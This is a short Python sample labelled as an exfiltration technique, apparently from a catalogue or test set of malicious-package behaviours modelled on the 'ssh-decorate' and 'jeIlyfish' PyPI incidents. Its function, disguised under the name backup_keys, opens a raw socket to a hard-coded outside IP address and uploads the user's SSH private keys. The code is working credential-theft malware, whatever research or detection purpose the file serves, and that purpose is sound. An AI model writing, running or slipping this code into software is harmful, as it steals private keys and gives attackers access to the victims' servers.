# technique: ~/.ssh private keys sent over a raw socket
# class: exfiltration
# source: "ssh-decorate" (2018) and "jeIlyfish" (2019) PyPI incidents: SSH keys stolen and uploaded
# declares: network
import os
import socket


def backup_keys():
    s = socket.create_connection(("68.183.212.246", 80), timeout=5)
    for name in ("id_rsa", "id_ed25519"):
        p = os.path.expanduser("~/.ssh/" + name)
        if os.path.exists(p):
            s.sendall(open(p, "rb").read())
